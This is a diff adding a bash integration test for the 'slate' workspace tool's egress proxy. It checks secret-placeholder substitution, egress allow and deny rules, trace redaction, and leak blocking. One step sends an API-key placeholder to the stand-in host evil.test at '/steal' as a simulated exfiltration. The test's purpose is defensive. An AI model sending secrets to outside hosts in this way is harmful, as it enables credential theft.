@@ -1,0 +1,164 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0-or-later
+# The egress proxy from inside a test guest, through a private slated: the guest's only way out
+# is 127.0.0.1:3128 (slate-guest forwards it over the guest channel to slated's proxy). With the
+# proxy's test-only settings (an upstream name pointed at a server on the host's 127.0.0.1, and
+# that address allowed explicitly in the workspace's egress policy):
+#   a placeholder in a header reaches the bound server as the real value, while the guest never
+#   sees the real value; `slate egress` deny-all and allow rules apply to the next request; the
+#   trace records the request with the secret's name and without any value;
+#   the same placeholder towards an unbound host is not forwarded, the workspace is marked
+#   compromised in workspace.json (time, host) and its domain paused; `slate start` refuses it
+#   until `slate wipe`, after which it starts again with the mark cleared.
+# The guest has busybox only (wget and nc); curl in the test image would allow HTTPS from the
+# guest too (tests/integration/proxy.sh covers TLS interception host-side).
+# Run through tests/integration/run-one, which sources lib.sh.
+set -euo pipefail
+
+ensure_libvirt
+ensure_test_image
+command -v python3 >/dev/null || skip "python3 not found"
+py=python3
+[ -x /usr/bin/python3 ] && py=/usr/bin/python3
+
+slated=$top_builddir/slated
+slate=$top_builddir/slate
+peer=$top_srcdir/tests/integration/proxy-peer.py
+work=$test_tmpdir
+ws=px$$
+daemon_pid=
+peer_pid=
+stop_daemon() {
+    [ -n "$daemon_pid" ] || return 0
+    kill "$daemon_pid" 2>/dev/null || true
+    wait "$daemon_pid" 2>/dev/null || true
+    daemon_pid=
+}
+stop_peer() {
+    [ -n "$peer_pid" ] || return 0
+    kill "$peer_pid" 2>/dev/null || true
+    wait "$peer_pid" 2>/dev/null || true
+}
+cleanup_domain() {
+    virsh -q -c "$SLATE_TEST_URI" destroy "slate-$ws" >/dev/null 2>&1 || true
+    virsh -q -c "$SLATE_TEST_URI" undefine --managed-save "slate-$ws" >/dev/null 2>&1 || true
+}
+on_exit cleanup_domain
+on_exit stop_daemon
+on_exit stop_peer
+
+"$py" "$peer" http --port-file "$work/peer.port" --log "$work/peer.log" \
+    --headers-log "$work/peer.headers" &
+peer_pid=$!
+for _ in $(seq 100); do [ -s "$work/peer.port" ] && break; sleep 0.05; done
+pp=$(cat "$work/peer.port")
+: >"$work/peer.log"
+
+start_daemon() {
+    rm -f "$work/run/slated.sock"
+    # The proxy's test-only settings (doc/egress-proxy.md): names pointed at the host's server.
+    SLATE_PROXY_TEST_CONNECT_TO="plain.bound.test:80:127.0.0.1:$pp,evil.test:80:127.0.0.1:$pp" \
+        "$slated" --foreground --state-dir "$state" --runtime-dir "$work/run" --log-level debug \
+        2>>"$work/slated.log" &
+    daemon_pid=$!
+    for _ in $(seq 200); do
+        [ -S "$work/run/slated.sock" ] && return 0
+        kill -0 "$daemon_pid" 2>/dev/null || { tail -20 "$work/slated.log"; fail "slated died"; }
+        sleep 0.05
+    done
+    fail "slated did not come up"
+}
+s() { "$slate" --socket "$work/run/slated.sock" "$@"; }
+jget() { "$py" -c 'import json,sys; d=json.load(sys.stdin)
+for k in sys.argv[1].split("."): d = d[int(k)] if isinstance(d, list) else d[k]
+print(d if not isinstance(d, bool) else str(d).lower())' "$1"; }
+status() {
+    local rc=0
+    "$@" >"$work/out" 2>"$work/err" || rc=$?
+    echo "$rc"
+}
+# gx: run a command in the guest (busybox), with a bound on the wall clock.
+gx() { timeout 60 "$slate" --socket "$work/run/slated.sock" exec "$ws" -- "$@"; }
+
+mnt=$(make_loop_fs btrfs proxyvm 3G)
+state=$mnt/state
+start_daemon
+s image import test "$test_image_dir/disk.img" --kernel "$test_image_dir/vmlinuz" \
+    --initrd "$test_image_dir/initrd.img" --cmdline "console=ttyS0" >/dev/null
+s create $ws --memory 512 --cpus 1 --home-size 1G >/dev/null
+real=real-proxy-secret-$$-0123456789
+printf '%s' "$real" | s secret set $ws API_KEY --host plain.bound.test --json >"$work/set.json" ||
+    fail "secret set: $(cat "$work/set.json")"
+PH=$(jget placeholders.value <"$work/set.json")
+log "placeholder $PH"
+[ -f "$state/install/egress-ca.crt" ] || fail "slated made no egress CA"
+[ "$(stat -c %a "$state/install/egress-ca.key")" = 600 ] || fail "the egress CA key is not 0600"
+# The test server listens on 127.0.0.1: loopback is refused unless allowed explicitly.
+s egress $ws allow 127.0.0.1 >/dev/null
+s egress $ws ls | grep -q "^allow  127.0.0.1" || fail "egress ls: $(s egress $ws ls)"
+s start $ws >/dev/null 2>"$work/err" || fail "start: $(cat "$work/err")"
+
+# A placeholder in a header reaches the bound server as the real value; the guest sees "ok".
+out=$(gx wget -q -O- --header "X-Api-Key: $PH" "http://plain.bound.test/small?k=1") ||
+    fail "wget through the proxy: $out $(tail -5 "$work/slated.log")"
+[ "$out" = ok ] || fail "the guest got '$out'"
+grep -qF "X-Api-Key: $real" "$work/peer.headers" ||
+    fail "the server did not get the real value: $(cat "$work/peer.headers")"
+grep -qF "$PH" "$work/peer.headers" && fail "the placeholder reached the bound server"
+
+# The policy applies to the next request.
+s egress $ws deny-all >/dev/null
+[ "$(status gx wget -q -O- http://plain.bound.test/small)" != 0 ] || fail "deny-all let a request out"
+s egress $ws allow plain.bound.test >/dev/null
+s egress $ws allow 127.0.0.1 >/dev/null
+out=$(gx wget -q -O- http://plain.bound.test/small) || fail "allow plain.bound.test: $out"
+[ "$(status gx wget -q -O- http://evil.test/denied)" != 0 ] || fail "deny-all let evil.test out"
+grep -q " /denied" "$work/peer.log" && fail "a denied request reached the server"
+s egress $ws allow-all >/dev/null
+s egress $ws allow 127.0.0.1 >/dev/null
+
+# The trace: the request, the secret's name, no value.
+s trace $ws --json >"$work/trace.json"
+grep -q '"substituted":\["API_KEY"\]' "$work/trace.json" ||
+    grep -q '"API_KEY"' "$work/trace.json" || fail "the trace lacks the substitution"
+grep -qF "$real" "$work/trace.json" && fail "a real value in the trace"
+s trace $ws | grep -q "plain.bound.test" || fail "slate trace: $(s trace $ws)"
+s trace $ws | grep -q "?k=\*" || fail "query values not redacted: $(s trace $ws)"
+
+# The same placeholder towards an unbound host: 451, not forwarded, compromised, paused.
+leak_rc=$(status gx wget -q -O- --header "X-Api-Key: $PH" http://evil.test/steal)
+log "the leaking wget exited $leak_rc: $(cat "$work/err" "$work/out" | head -3)"
+[ "$leak_rc" != 0 ] || fail "the leaking request succeeded"
+grep -q " /steal" "$work/peer.log" && fail "the leaking request reached the server"
+for _ in $(seq 50); do
+    [ "$(s describe $ws --json | jget compromised)" = true ] && break
+    sleep 0.2
+done
+s describe $ws --json >"$work/desc.json"
+[ "$(jget compromised <"$work/desc.json")" = true ] || fail "not marked compromised"
+[ "$(jget compromised_host <"$work/desc.json")" = evil.test ] ||
+    fail "compromised_host: $(jget compromised_host <"$work/desc.json")"
+wsjson=$(find "$state" -path "*/$ws/workspace.json" | head -1)
+[ -n "$wsjson" ] && grep -q '"compromised": *true' "$wsjson" || fail "workspace.json: not compromised"
+grep -q '"compromisedHost": *"evil.test"' "$wsjson" || fail "workspace.json: no host"
+dstate=$(virsh -q -c "$SLATE_TEST_URI" domstate "slate-$ws" 2>/dev/null || true)
+[ "$dstate" = paused ] || fail "the domain is '$dstate', not paused"
+s trace $ws --leaks >"$work/leaks.txt"
+grep -q "LEAK BLOCKED: API_KEY" "$work/leaks.txt" || fail "trace --leaks: $(cat "$work/leaks.txt")"
+s ls | grep -q "$ws" || fail "ls lost the workspace"
+
+# It will not start again until wiped; wiped, it starts and the mark is gone.
+s stop --force $ws >/dev/null
+[ "$(status s start $ws)" = 1 ] || fail "a compromised workspace started"
+grep -q "compromised" "$work/err" || fail "start's refusal does not say why: $(cat "$work/err")"
+s ls | grep "$ws" | grep -q compromised || fail "ls does not show compromised: $(s ls)"
+s wipe --yes $ws >/dev/null
+s start $ws >/dev/null 2>"$work/err" || fail "start after wipe: $(cat "$work/err")"
+[ "$(s describe $ws --json | jget compromised)" = false ] || fail "the mark survived the wipe"
+# Its secrets and policy were kept.
+out=$(gx wget -q -O- --header "X-Api-Key: $PH" "http://plain.bound.test/small?again=1") ||
+    fail "after the wipe: $out"
+s stop --force $ws >/dev/null
+s rm --yes $ws >/dev/null
+grep -qF "$real" "$work/slated.log" && fail "a real value in slated's log"
+log "ok"
